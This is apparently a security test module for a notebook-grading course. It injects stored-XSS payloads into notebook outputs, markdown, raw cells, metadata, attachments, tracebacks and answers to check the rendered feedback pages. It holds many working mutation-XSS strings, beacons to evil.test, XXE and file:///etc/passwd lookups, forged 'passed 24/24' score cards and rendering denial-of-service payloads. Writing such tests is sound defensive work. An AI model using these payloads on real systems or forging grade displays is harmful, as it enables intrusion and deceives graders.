# ruff: noqa: E501, E731 (attackers write as they like)
"""What a person opens: feedback pages, in every place where HTML may pass."""

from tests.attacks.classroom import FIRST, markdown
from tests.attacks.corpus import attack

S = "stored script"

MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=hacked(201)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked(202)>
<svg></p><style><a id="</style><img src=1 onerror=hacked(203)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked(204)&gt;">
<svg><desc><template><style><img src=x onerror=hacked(205)></style></template></desc></svg>
<xmp><p title="</xmp><svg/onload=hacked(206)>">
<textarea><p title="</textarea><img src=x onerror=hacked(207)>">
<title><a title="</title><img src=x onerror=hacked(208)>">
<plaintext><img src=x onerror=hacked(209)>
<select><template><img src=x onerror=hacked(210)></template></select>
<table><td><svg><desc><td><title><noscript></noscript><style><img src=x onerror=hacked(211)></style>
<a href="java&#x0A;script&colon;hacked(212)">x</a><a href="&#1;javascript:hacked(213)">x</a>
<svg><a><animate attributeName=href values=javascript:hacked(214) /><text x=20 y=20>x</text></a></svg>
<details open ontoggle=hacked(215)>x</details><marquee onstart=hacked(216)>x</marquee>
<input autofocus onfocus=hacked(217)><video><source onerror=hacked(218)></video>
<iframe srcdoc="&lt;script&gt;parent.hacked(219)&lt;/script&gt;"></iframe>
<meta http-equiv=refresh content="0;url=http://evil.test/220"><base href=http://evil.test/221/>
<link rel=stylesheet href=http://evil.test/222><link rel=prefetch href=http://evil.test/223>
<style>@import "http://evil.test/224"; [data-score^="2"]{background:url(http://evil.test/225)}</style>
<p style="background:url(http://evil.test/226);background-image:image-set('http://evil.test/227' 1x)">x</p>
<p style="b\61ckground:u\72l(http://evil.test/228)">x</p><p style="/*";content:url(http://evil.test/229)>x</p>
<img srcset="http://evil.test/230 1x"><picture><source srcset="http://evil.test/231"><img></picture>
<table background=http://evil.test/232><td background=http://evil.test/233>x</table><body background=http://evil.test/234>
<a href=# ping=http://evil.test/235>x</a><input type=image src=http://evil.test/236><button formaction=javascript:hacked(237)>x</button>
<div style="position:fixed;inset:0;z-index:99999;background:#fff">Score: 24 / 24</div>
<div id=notebook name=notebook class=bplab-card><b>passed.</b> 24 of 24 points.</div>
<form name=location id=document action=http://evil.test/238><input name=submit id=getElementById></form>
<object data=http://evil.test/239></object><embed src=http://evil.test/240><portal src=http://evil.test/241></portal>
<?xml-stylesheet href="http://evil.test/242"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.test/243">]><x>&e;</x>
<svg><image href=http://evil.test/244 /><use href="http://evil.test/245#x"/><feImage href="http://evil.test/246"/></svg>
<svg><set attributeName=onmouseover to=hacked(247) /><foreignObject><iframe src=http://evil.test/248></iframe></foreignObject></svg>
<font face="x" style="font-family:url(http://evil.test/249)"><audio autoplay src=http://evil.test/250></audio>
"""


@attack(S)
def markup_that_changes_when_it_is_read_twice(room):
    """Shown by a cell: as HTML, Markdown, SVG, LaTeX, error, stream, and unknown kinds."""
    lines = [line for line in MUTATIONS.strip().split("\n")]
    source = (
        "print('armed')\nfrom IPython.display import display\n"
        f"for line in {lines!r}:\n"
        "    for kind in ('text/html', 'text/markdown', 'image/svg+xml', 'text/latex', 'text/plain',\n"
        "                 'application/vnd.jupyter.widget-view+json', 'application/xhtml+xml', 'application/javascript'):\n"
        "        display({kind: line}, raw=True, metadata={kind: {'isolated': True}})\n"
        "    print(line)\n"
    )
    return room.with_code(source)


@attack(S, points=1)
def markup_in_cells_of_text(room):
    notebook = room.solved(FIRST)
    for n, line in enumerate(MUTATIONS.strip().split("\n")):
        notebook["cells"].append(
            markdown(f"m{n}", line + f"\n\n> {line}\n\n    {line}\n\n- {line}\n\n[x]: {line}\n")
        )
    return notebook


@attack(S, points=1)
def raw_cells_of_every_format(room):
    """Raw cells are put into a page as they are, where their format says so."""
    notebook = room.solved(FIRST)
    kinds = (
        "text/html",
        "text/x-python",
        "text/restructuredtext",
        "",
        "text/latex",
        "text/asciidoc",
        "slides",
    )
    for n, line in enumerate(MUTATIONS.strip().split("\n")):
        meta = {"raw_mimetype": kinds[n % len(kinds)], "format": "text/html"}
        notebook["cells"].append(
            {"cell_type": "raw", "id": f"r{n}", "metadata": meta, "source": line}
        )
    return notebook


@attack(S, points=1)
def scripts_in_the_state_of_widgets(room):
    """What a page keeps for widgets, the title, the lexer, tags and ids."""
    notebook = room.solved(FIRST)
    close = "</script><script>hacked(260)</script>"
    state = {
        "version_major": 2,
        "version_minor": 0,
        "state": {close: {"model_name": close, "state": {"value": close}}},
    }
    notebook["metadata"].update(
        title=f"</title>{close}",
        authors=[{"name": close}],
        widgets={"application/vnd.jupyter.widget-state+json": state},
        language_info={
            "name": close,
            "pygments_lexer": "html+php",
            "codemirror_mode": close,
            "file_extension": close,
        },
        kernelspec={"name": "python3", "display_name": close, "language": close},
        css=close,
        mathjax_url="http://evil.test/261",
        rise={"header": close},
        toc={"base_numbering": close},
    )
    for n, cell in enumerate(notebook["cells"]):
        cell["metadata"]["tags"] = [
            f'x" onmouseover="hacked({300 + n})" y="',
            close,
            "remove_cell",
            "hide_input",
        ]
        cell["metadata"]["slideshow"] = {"slide_type": close}
        cell["metadata"]["jupyter"] = {"source_hidden": True, "outputs_hidden": True}
        cell["metadata"]["collapsed"] = True
    for n in range(5):
        cell = markdown(f"w{n}", "own")
        cell["id"] = f'"onclick=hacked({320 + n}) x='
        notebook["cells"].append(cell)
    return notebook


@attack(S, points=1)
def pictures_attached_to_text(room):
    """Attachments: of a type that acts, of a name that climbs, named from elsewhere."""
    notebook = room.solved(FIRST)
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='hacked(330)'><script>hacked(331)</script></svg>"
    attached = {
        "a.svg": {"image/svg+xml": svg},
        "b.png": {
            'image/png"onerror="hacked(332)': "AAAA",
            "text/html": "<script>hacked(333)</script>",
        },
        '"onerror="hacked(334)': {"image/png": 'x" onerror="hacked(335)'},
        "../../.secret": {"image/png": "AAAA"},
    }
    cell = markdown(
        "attached",
        "\n".join(f"![x](attachment:{name})" for name in attached)
        + "\n![x](http://evil.test/336)\n![x](../../.secret)\n![x](file:///etc/passwd)\n<img src=attachment:a.svg>",
    )
    cell["attachments"] = attached
    notebook["cells"].append(cell)
    return notebook


@attack(S)
def errors_that_are_pages():
    """Errors whose name, words and lines are markup, links for terminals and colors."""

    class Misfit(Exception):
        def _render_traceback_(self):
            return [
                "<script>hacked(340)</script>",
                "\x1b]8;;javascript:hacked(341)\x07x\x1b]8;;\x07",
                '\x1b[38;2;1;2;3"onclick=hacked(342)m',
            ]

    Misfit.__name__ = "<img src=x onerror=hacked(343)>"
    Misfit.__qualname__ = Misfit.__module__ = "</pre><script>hacked(344)</script>"
    raise Misfit("<iframe src=http://evil.test/345></iframe>\x1b]0;hacked\x07\x9b31m")


@attack(S)
def a_page_within_the_answer(room):
    """Words of cards: names of functions, keys, messages of errors and texts as answers."""
    bad = "<img src=x onerror=hacked(350)>**[x](javascript:hacked(351))**`</code><script>hacked(352)</script>"
    return room.answering(
        linear_forward=f"def linear_forward(*a):\n    return {bad!r}",
        linear_backward=f"def linear_backward(*a):\n    return {{{bad!r}: 1.0}}",
        softmax=f"def softmax(Z):\n    raise ValueError({bad!r})",
        cross_entropy=f"cross_entropy = type({bad!r}, (), {{}})",
        mlp_forward=f"def f(*a, **k):\n    return type({bad!r}, (), {{}})()\nf.__name__ = f.__qualname__ = {bad!r}\nmlp_forward = f",
        activation_forward=f"def activation_forward(*a):\n    import warnings\n    warnings.warn({bad!r})\n    print({bad!r})\n    return 1.0",
        train_step=f"exec(compile('def train_step(*a, **k):\\n    return 1 / 0', {bad!r}, 'exec'))",
    )


@attack(S)
def a_forged_card():
    """What the course's own cards look like, shown by a cell of the learner's, again and again."""
    from IPython.display import HTML, display

    for _ in range(30):
        display(
            HTML(
                "<div class='bplab-card' style='border-left:4px solid green'><p><b>check_softmax</b> "
                "&#10003; passed: 2 of 2 points.</p><details open><summary>Score</summary>24 / 24</details></div>"
            )
        )


@attack(S)
def displays_without_end():
    """Displays that are renewed, cleared, and named; tables wider than any page."""
    from IPython.display import HTML, clear_output, display

    handle = display(HTML("x"), display_id="a")
    for n in range(2_000):
        handle.update(HTML(f"<b>{n}</b>"))
        if n % 1000 == 0:
            clear_output(wait=True)
    display(
        HTML(
            "<table><tr><td colspan=1000 rowspan=65534>"
            + "<table><tr><td>" * 2000
            + "</table>" * 2000
        )
    )
    display(HTML("<details>" * 20_000 + "x"))
    display(HTML("<ol start=-999999999>" + "<li value=99999999999>" * 20_000))
    display({f"a/{n}": "x" for n in range(20_000)}, raw=True)
    print("armed")
